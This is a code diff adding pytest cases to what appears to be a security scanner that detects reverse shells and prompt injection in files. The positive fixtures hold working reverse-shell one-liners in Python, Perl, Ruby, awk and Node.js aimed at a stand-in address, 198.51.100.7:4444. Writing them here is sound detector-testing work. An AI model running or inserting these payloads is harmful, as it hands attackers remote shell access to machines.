@@ -461,3 +461,44 @@ def test_instructions_in_other_languages_are_not_overrides() -> None:
         "以前の指示に従ってください。\n"
     )
     assert _of(analyze(text, "SKILL.md"), "prompt-injection") == []
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("r.py", "import socket, subprocess\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\n"
+                 "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n"),
+        ("r.sh", "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"198.51.100.7:4444\");"
+                 "STDIN->fdopen($c,r);system$_ while<>;'\n"),
+        ("r.sh", "ruby -rsocket -e 'c=TCPSocket.new(\"198.51.100.7\",4444);"
+                 "while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'\n"),
+        ("r.sh", "awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.7/4444\";while((s|&getline c)>0)"
+                 "{while((c|&getline l)>0)print l|&s;close(c)}}'\n"),
+        ("r.js", "const net = require('net'), { spawn } = require('child_process');\n"
+                 "const c = new net.Socket();\nc.connect(4444, '198.51.100.7', () => {\n"
+                 "  const sh = spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c);\n});\n"),
+    ],
+)  # fmt: skip
+def test_reverse_shells_in_more_languages_are_critical(name: str, text: str) -> None:
+    hits = _of(analyze(text, name), "reverse-shell")
+    assert [h.severity for h in hits] == [Severity.CRITICAL], hits
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        # A socket and a shell command in one script, not wired together.
+        ("c.py", "import socket, subprocess\ns = socket.socket()\ns.connect(('127.0.0.1', 5432))\n"
+                 "subprocess.run(['/bin/sh', '-c', 'pg_isready'], check=True)\n"),
+        ("c.sh", "awk 'BEGIN{s=\"/inet/tcp/0/example.invalid/80\";print \"GET / HTTP/1.0\\r\\n\" |& s;"
+                 "while((s |& getline line)>0) print line}'\n"),
+        ("c.js", "const net = require('net');\nconst c = net.connect(6379, 'localhost');\n"
+                 "const p = require('child_process').spawn('/bin/sh', ['build.sh']);\n"
+                 "p.stdout.pipe(process.stdout);\n"),
+        ("c.rb", "require 'socket'\ns = TCPSocket.new('localhost', 80)\nputs s.gets\n"),
+    ],
+)  # fmt: skip
+def test_a_socket_beside_a_shell_that_it_does_not_feed_is_not_a_reverse_shell(
+    name: str, text: str
+) -> None:
+    assert _of(analyze(text, name), "reverse-shell") == []
